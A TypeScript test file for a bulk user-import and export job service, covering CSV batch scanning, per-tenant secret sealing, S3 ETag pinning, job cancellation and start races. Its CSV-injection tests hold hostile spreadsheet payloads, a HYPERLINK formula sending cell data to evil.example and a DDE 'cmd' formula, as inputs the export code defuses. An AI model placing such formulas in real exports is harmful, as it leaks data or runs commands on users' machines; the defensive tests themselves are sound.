import { GetObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { ExecutionDoesNotExist, SFNClient, StopExecutionCommand } from '@aws-sdk/client-sfn';
import { mockClient } from 'aws-sdk-client-mock';
import { parse } from 'csv-parse/sync';
import { randomBytes } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { LocalJobDriver } from '../../infra/local/jobs';
import { FileObjectStore } from '../../shared/adapters/objects/file-object-store';
import { S3ObjectStore } from '../../shared/adapters/objects/s3-object-store';
import { SfnJobRunner } from '../../shared/adapters/jobs/sfn-job-runner';
import { jobCompleteEvent } from '../../shared/schemas/job-events';
import { LocalSecretBox, localSecretBoxCalls } from '../../shared/adapters/secrets/local-secret-box';
import { exportField, importCell, spreadsheetCell } from '../../shared/domain/jobs/csv';
import { scanCsv } from '../../shared/domain/jobs/manifest';
import { jobObjects } from '../../shared/domain/jobs/keys';
import { NO_COUNTS, ObjectChangedError, type BatchRange, type JobRecord } from '../../shared/domain/jobs/records';
import { JobService } from '../../shared/domain/jobs/service';
import { JobCompleter } from '../../shared/domain/jobs/completer';
import { JobWorker } from '../../shared/domain/jobs/worker';
import type { Principal } from '../../shared/domain/types';
import type { JobRunner, JobStore, ObjectStore, TenantStore } from '../../shared/ports';
import { PayloadTooLargeError, ValidationError } from '../../shared/domain/errors';
import { oathSecretContext } from '../../shared/domain/otp/records';

async function* chunks(text: string, size: number): AsyncIterable<Uint8Array> {
  const bytes = Buffer.from(text);
  for (let i = 0; i < bytes.length; i += size) yield bytes.subarray(i, i + size);
}

describe('R19 bulk jobs: the batch manifest of an upload', () => {
  const file = 'userId,firstName\na,"Ann\nMulti-line"\nb,Bob\n\nc,"Quote "" inside"\nd,Dee\ne,Eve';

  it.each([1, 3, 7, 1024])('cuts whole records into byte ranges, quote-aware, whatever the chunk size (%i bytes)', async (size) => {
    const manifest = await scanCsv(chunks(file, size), { batchRows: 2, maxRows: 100 });
    expect(manifest.header).toEqual(['userId', 'firstName']);
    expect(manifest.rows).toBe(5);
    const text = (r: { start: number; end: number }) => Buffer.from(file).subarray(r.start, r.end).toString();
    expect(manifest.batches.map((b) => ({ line: b.firstLine, text: text(b) }))).toEqual([
      { line: 2, text: 'a,"Ann\nMulti-line"\nb,Bob\n' },
      // The empty line (5) is no row and in no batch.
      { line: 6, text: 'c,"Quote "" inside"\nd,Dee\n' },
      { line: 8, text: 'e,Eve' },
    ]);
  });

  it('stops at the row limit with a 413 error, and refuses a file with no header', async () => {
    await expect(scanCsv(chunks(file, 5), { batchRows: 2, maxRows: 4 })).rejects.toThrow(PayloadTooLargeError);
    await expect(scanCsv(chunks('\n\n', 5), { batchRows: 2, maxRows: 4 })).rejects.toThrow(ValidationError);
  });
});

describe('R28 token secrets sealed per batch (envelope)', () => {
  const box = new LocalSecretBox(randomBytes(32).toString('base64'));
  const secrets = [randomBytes(20), randomBytes(20), randomBytes(32)];
  const contexts = ['T1', 'T2', 'T3'].map((serial) => oathSecretContext('tn_a', serial));

  it('wraps one data key for the lot, and each secret opens only for its own record and tenant', async () => {
    const before = localSecretBoxCalls.encrypt;
    const sealed = await box.sealMany(secrets.map((plaintext, i) => ({ plaintext, context: contexts[i] as (typeof contexts)[number] })));
    expect(localSecretBoxCalls.encrypt - before).toBe(1);
    expect(new Set(sealed).size).toBe(3);
    for (const [i, ciphertext] of sealed.entries()) {
      expect(Buffer.from(await box.decrypt(ciphertext, contexts[i] as (typeof contexts)[number]))).toEqual(secrets[i]);
    }
    await expect(box.decrypt(sealed[0] as string, contexts[1] as (typeof contexts)[number])).rejects.toThrow();
    await expect(box.decrypt(sealed[0] as string, oathSecretContext('tn_b', 'T1'))).rejects.toThrow();
  });

  it('refuses to seal secrets of different tenants under one key', async () => {
    await expect(box.sealMany([{ plaintext: secrets[0] as Buffer, context: oathSecretContext('tn_a', 'X') }, { plaintext: secrets[1] as Buffer, context: oathSecretContext('tn_b', 'Y') }])).rejects.toThrow(
      'share their kind and tenant',
    );
  });
});

describe('R19 users export: cells a spreadsheet would run as formulas (OWASP CSV injection)', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', '+14155550100', '-2+3', '@SUM(A1:A9)', '\tx', '\rx', "'=already", "''+twice"];

  it.each(hostile)('defuses %j with one leading quote, quoted, and a user import takes exactly that quote away', (value) => {
    const cell = spreadsheetCell(value);
    expect(cell).toBe(`'${value}`);
    expect(exportField(value)).toBe(`"${cell.replace(/"/g, '""')}"`);
    expect(importCell(cell)).toBe(value);
  });

  it('leaves every other cell as it was, a leading quote before plain text included', () => {
    for (const value of ['Ann', "O'Neill", "'Abdu", 'ann@example.com', '', 'a=b']) {
      expect(spreadsheetCell(value)).toBe(value);
      expect(importCell(value)).toBe(value);
    }
    expect(exportField('Smith, Jr.')).toBe('"Smith, Jr."');
  });

  it.each(["a;=1+cmd|'/C calc'!A0", 'a\t=1+1', 'Ann', ''])('quotes every cell, so a locale splitting at ; or tab never finds a formula start in %j', (value) => {
    expect(exportField(value)).toBe(`"${value}"`);
    expect(parse(`${exportField(value)},${exportField('x')}\n`)).toEqual([[value, 'x']]);
  });
});

describe('R19 bulk jobs: the upload is read only as it was pinned at start', () => {
  const s3Mock = mockClient(S3Client);
  beforeEach(() => s3Mock.reset());
  const drain = async (body: AsyncIterable<Uint8Array>) => {
    const parts: Buffer[] = [];
    for await (const part of body) parts.push(Buffer.from(part));
    return Buffer.concat(parts).toString();
  };

  it('S3: a ranged GetObject carries IfMatch, and its 412 PreconditionFailed is ObjectChangedError', async () => {
    const store = new S3ObjectStore(new S3Client({ region: 'eu-west-1', credentials: { accessKeyId: 'test', secretAccessKey: 'test' } }), 'jobs');
    s3Mock.on(GetObjectCommand).rejects(Object.assign(new Error('At least one of the pre-conditions you specified did not hold'), { name: 'PreconditionFailed', $metadata: { httpStatusCode: 412 } }));
    await expect(drain(store.read('t/j/upload.csv', { start: 10, end: 20 }, '"abc"'))).rejects.toThrow(ObjectChangedError);
    expect(s3Mock.commandCalls(GetObjectCommand)[0]?.args[0].input).toEqual({ Bucket: 'jobs', Key: 't/j/upload.csv', Range: 'bytes=10-19', IfMatch: '"abc"' });
  });

  it('locally: the ETag changes when the object is replaced, and a read pinned to the old one is refused', async () => {
    const root = await mkdtemp(join(tmpdir(), 'objects-'));
    try {
      const store = new FileObjectStore(root, { baseUrl: 'http://localhost', masterKeyBase64: randomBytes(32).toString('base64'), clock: { now: () => Date.now() } });
      await store.write('t/j/upload.csv', ['first,file\n'], 'text/csv');
      const pinned = await store.stat('t/j/upload.csv');
      expect(pinned?.size).toBe(11);
      expect(await drain(store.read('t/j/upload.csv', { start: 0, end: 5 }, pinned?.etag))).toBe('first');
      await store.write('t/j/upload.csv', ['other,file\n'], 'text/csv');
      expect((await store.stat('t/j/upload.csv'))?.etag).not.toBe(pinned?.etag);
      await expect(drain(store.read('t/j/upload.csv', { start: 0, end: 5 }, pinned?.etag))).rejects.toThrow(ObjectChangedError);
    } finally {
      await rm(root, { recursive: true, force: true });
    }
  });
});

describe('R19 bulk jobs: cancel stops the execution on AWS, and its ABORTED event writes the report', () => {
  const sfnMock = mockClient(SFNClient);
  beforeEach(() => sfnMock.reset());
  const machine = 'arn:aws:states:eu-west-1:123456789012:stateMachine:Tessera-dev-Api-jobs';
  const runner = () => new SfnJobRunner(new SFNClient({ region: 'eu-west-1', credentials: { accessKeyId: 'test', secretAccessKey: 'test' } }), machine);
  const run = { tenantId: 'ten_1', jobId: 'job_AAAAAAAAAAAAAAAAAAAAAA', header: ['userId'] };

  it('stops the execution named after the job; one that does not exist (never started, gone) is no error', async () => {
    sfnMock.on(StopExecutionCommand).resolvesOnce({ stopDate: new Date() }).rejectsOnce(new ExecutionDoesNotExist({ message: 'no such execution', $metadata: {} }));
    await runner().stop(run);
    await runner().stop(run);
    expect(sfnMock.commandCalls(StopExecutionCommand).map((c) => c.args[0].input.executionArn)).toEqual([
      'arn:aws:states:eu-west-1:123456789012:execution:Tessera-dev-Api-jobs:job_AAAAAAAAAAAAAAAAAAAAAA',
      'arn:aws:states:eu-west-1:123456789012:execution:Tessera-dev-Api-jobs:job_AAAAAAAAAAAAAAAAAAAAAA',
    ]);
    sfnMock.on(StopExecutionCommand).rejects(new Error('throttled'));
    await expect(runner().stop(run)).rejects.toThrow('throttled');
  });

  it('the complete step reads the job from the execution’s ABORTED status event, and from nothing else of that kind', () => {
    const event = (status: string, input: string) => ({ source: 'aws.states', 'detail-type': 'Step Functions Execution Status Change', detail: { status, input, executionArn: `${machine}:x` } });
    expect(jobCompleteEvent.parse(event('ABORTED', JSON.stringify({ run, manifestKey: 'ten_1/job/manifest.json' })))).toEqual({ run });
    expect(jobCompleteEvent.parse({ run })).toEqual({ run });
    expect(jobCompleteEvent.safeParse(event('SUCCEEDED', JSON.stringify({ run }))).success).toBe(false);
    expect(jobCompleteEvent.safeParse(event('ABORTED', '{not json')).success).toBe(false);
    expect(jobCompleteEvent.safeParse(event('ABORTED', JSON.stringify({ run: { ...run, jobId: 'x' } }))).success).toBe(false);
  });
});

describe('R19 bulk jobs: a cancelled job’s report holds a batch that finishes while the report is written', () => {
  const run = { tenantId: 'ten_1', jobId: 'job_BBBBBBBBBBBBBBBBBBBBBB', header: ['userId'] };
  const file = 'userId\nu1\nu2\n';
  const ranges: BatchRange[] = [
    { batch: 0, firstLine: 2, start: 7, end: 10 },
    { batch: 1, firstLine: 3, start: 10, end: 13 },
  ];

  /** A cancelled job whose batch 0 ran and whose batch 1 started before the cancel; objects appear only once fully written, as on S3. */
  function setup() {
    const at = '2030-01-01T00:00:00.000Z';
    let job: JobRecord = { tenantId: run.tenantId, jobId: run.jobId, kind: 'user-import', space: 'prov:pv_1', state: 'cancelled', batches: { total: 2, done: 1 }, counts: NO_COUNTS, createdAt: at, updatedAt: at, fileEtag: 'e1' };
    const recorded = new Set([0]);
    const stored = new Map<string, string>([
      [jobObjects.upload(run.tenantId, run.jobId), file],
      [jobObjects.manifest(run.tenantId, run.jobId), JSON.stringify(ranges)],
      [jobObjects.reportPart(run.tenantId, run.jobId, 0), `${JSON.stringify({ line: 2, id: 'u1', status: 'created' })}\n`],
    ]);
    const jobs: JobStore = {
      create: async () => undefined,
      get: async () => job,
      transition: async () => false,
      startBatch: async () => true,
      recordBatch: async (_tenantId, _jobId, batch) => {
        if (recorded.has(batch)) return false;
        recorded.add(batch);
        job = { ...job, batches: { ...job.batches, done: job.batches.done + 1 } };
        return true;
      },
    };
    const hooks: { onSize?: (key: string) => Promise<void> } = {};
    const objects = {
      size: async (key: string) => {
        const size = stored.get(key)?.length;
        await hooks.onSize?.(key);
        return size;
      },
      read: async function* (key: string, range?: { start: number; end: number }) {
        const text = stored.get(key) ?? '';
        yield Buffer.from(range ? text.slice(range.start, range.end) : text);
      },
      write: async (key: string, body: AsyncIterable<string | Uint8Array> | Iterable<string | Uint8Array>) => {
        let text = '';
        for await (const part of body) text += Buffer.from(part).toString();
        stored.set(key, text);
      },
    } as unknown as ObjectStore;
    // No tenant: every row of a batch is an error line naming why (the simplest batch that runs).
    const tenants = { getTenant: async () => undefined } as unknown as TenantStore;
    const clock = { now: () => Date.parse(at) };
    const completer = new JobCompleter({ jobs, objects, userStore: {} as never, clock });
    const worker = new JobWorker({ jobs, objects, tenants, users: {} as never, userStore: {} as never, tokens: {} as never, completer, clock });
    const reportLines = () => (stored.get(jobObjects.report(run.tenantId, run.jobId)) ?? '').trim().split('\n').map((l) => JSON.parse(l) as { line: number; status: string; errors?: { detail: string }[] });
    return { worker, completer, hooks, reportLines, done: () => job.batches.done };
  }

  it('batch 1 writes its part and is counted after the complete step listed the parts: the last report written holds it', async () => {
    const { worker, completer, hooks, reportLines, done } = setup();
    const part1 = jobObjects.reportPart(run.tenantId, run.jobId, 1);
    hooks.onSize = async (key) => {
      if (key !== part1) return;
      hooks.onSize = undefined;
      // The complete step has seen no part 1; now batch 1 finishes, while the report is being written.
      expect(await worker.runBatch(run, ranges[1] as BatchRange)).toMatchObject({ kind: 'done', recorded: true });
    };
    await completer.complete(run);
    expect(done()).toBe(2);
    const lines = reportLines();
    expect(lines.map((l) => l.line)).toEqual([2, 3]);
    expect(lines[1]?.errors?.[0]?.detail).not.toContain('cancelled before this batch ran');
  });
});

describe('R19 bulk jobs: cancel stops the run whatever state it read first', () => {
  const at = '2030-01-01T00:00:00.000Z';
  const job: JobRecord = { tenantId: 'ten_1', jobId: 'job_CCCCCCCCCCCCCCCCCCCCCC', kind: 'user-import', space: 'prov:pv_1', state: 'awaiting_upload', batches: { total: 0, done: 0 }, counts: NO_COUNTS, createdAt: at, updatedAt: at };
  const principal = { tenantId: 'ten_1' } as unknown as Principal;

  function service(stop: () => Promise<void>) {
    // The cancel reads the job awaiting its upload; a start moves it to running before the cancel's transition, which still succeeds.
    let state: JobRecord['state'] = 'awaiting_upload';
    const jobs = {
      get: async () => ({ ...job, state }),
      transition: async (_t: string, _j: string, from: readonly string[], to: JobRecord['state']) => {
        state = 'running';
        if (!from.includes(state)) return false;
        state = to;
        return true;
      },
    } as unknown as JobStore;
    const stops: string[] = [];
    const warnings: unknown[][] = [];
    const runner = { start: async () => undefined, stop: async (run: { jobId: string }) => (stops.push(run.jobId), stop()) } as unknown as JobRunner;
    const log = { debug: () => undefined, info: () => undefined, error: () => undefined, warn: (...args: unknown[]) => warnings.push(args) };
    return { jobs: new JobService({ jobs, objects: {} as ObjectStore, runner, clock: { now: () => Date.parse(at) }, log }), stops, warnings };
  }

  it('a start that moved the job to running after the cancel read it: the run is stopped', async () => {
    const { jobs, stops, warnings } = service(async () => undefined);
    expect(await jobs.cancel(principal, job.jobId)).toMatchObject({ state: 'cancelled' });
    expect(stops).toEqual([job.jobId]);
    expect(warnings).toEqual([]);
  });

  it('a stop that fails leaves the job cancelled and is logged, without its message', async () => {
    const { jobs, stops, warnings } = service(async () => {
      throw Object.assign(new Error('Rate exceeded for arn:aws:states:…'), { name: 'ThrottlingException' });
    });
    expect(await jobs.cancel(principal, job.jobId)).toMatchObject({ state: 'cancelled' });
    expect(stops).toEqual([job.jobId]);
    expect(warnings).toEqual([['job run not stopped; its batches skip', { jobId: job.jobId, error: 'ThrottlingException' }]]);
  });
});

describe('R19 bulk jobs: a job starts once', () => {
  it('of two starts that both read the job waiting for its file, the one losing the move to running writes nothing and starts nothing', async () => {
    const at = '2030-01-01T00:00:00.000Z';
    const file = 'userId,firstName\nu1,Ann\nu2,Bob\n';
    let record: JobRecord = { tenantId: 'ten_1', jobId: 'job_DDDDDDDDDDDDDDDDDDDDDD', kind: 'user-import', space: 'prov:pv_1', state: 'awaiting_upload', bytes: file.length, batches: { total: 0, done: 0 }, counts: NO_COUNTS, createdAt: at, updatedAt: at };
    // Both starts read the job before either moves it.
    let reads = 0;
    let bothRead: () => void = () => undefined;
    const barrier = new Promise<void>((resolve) => (bothRead = resolve));
    const jobs = {
      get: async () => {
        const seen = record;
        if (++reads === 2) bothRead();
        if (reads <= 2) await barrier;
        return seen;
      },
      transition: async (_t: string, _j: string, from: readonly string[], to: JobRecord['state'], change?: { total?: number; fileEtag?: string }) => {
        if (!from.includes(record.state)) return false;
        record = { ...record, state: to, batches: { total: change?.total ?? 0, done: 0 }, ...(change?.fileEtag ? { fileEtag: change.fileEtag } : {}) };
        return true;
      },
    } as unknown as JobStore;
    const writes: string[] = [];
    const objects = {
      stat: async () => ({ size: file.length, etag: '"e1"' }),
      read: async function* () {
        yield Buffer.from(file);
      },
      write: async (key: string) => void writes.push(key),
    } as unknown as ObjectStore;
    const runs: string[] = [];
    const runner = { start: async (run: { jobId: string }) => void runs.push(run.jobId), stop: async () => undefined } as unknown as JobRunner;
    const log = { debug: () => undefined, info: () => undefined, warn: () => undefined, error: () => undefined };
    const service = new JobService({ jobs, objects, runner, clock: { now: () => Date.parse(at) }, log });
    const principal = { tenantId: 'ten_1' } as unknown as Principal;
    const starts = await Promise.allSettled([service.start(principal, record.jobId), service.start(principal, record.jobId)]);
    expect(starts.map((s) => s.status).sort()).toEqual(['fulfilled', 'rejected']);
    expect(starts.find((s) => s.status === 'rejected')).toMatchObject({ reason: { name: 'ConflictError' } });
    expect(writes).toEqual([jobObjects.manifest('ten_1', record.jobId)]);
    expect(runs).toEqual([record.jobId]);
  });
});

describe('R19 bulk jobs: the local driver forgets a job once it ends', () => {
  it('holds no stopped or driving entry for an ended job, remembers no stop of a job it never drove, and keeps a bounded number of counts', async () => {
    const driver = new LocalJobDriver();
    const manifest = JSON.stringify([{ batch: 0, firstLine: 2, start: 7, end: 10 }]);
    const objects = {
      read: async function* () {
        yield Buffer.from(manifest);
      },
    } as unknown as ObjectStore;
    driver.configure({ batch: async () => undefined, complete: async () => undefined, objects });
    const run = (jobId: string) => ({ tenantId: 'ten_1', jobId, header: ['userId'] });
    await driver.start(run('job_stopped'), 'manifest.json');
    await driver.stop(run('job_stopped'));
    await driver.stop(run('job_never_driven'));
    for (let i = 0; i < 1005; i++) await driver.start(run(`job_${i}`), 'manifest.json');
    await driver.idle();
    expect(driver.invocations('job_stopped')).toBe(0);
    expect(driver.invocations('job_1004')).toBe(1);
    expect(driver.tracked()).toEqual({ driving: 0, stopped: 0, counted: 1000 });
  });
});
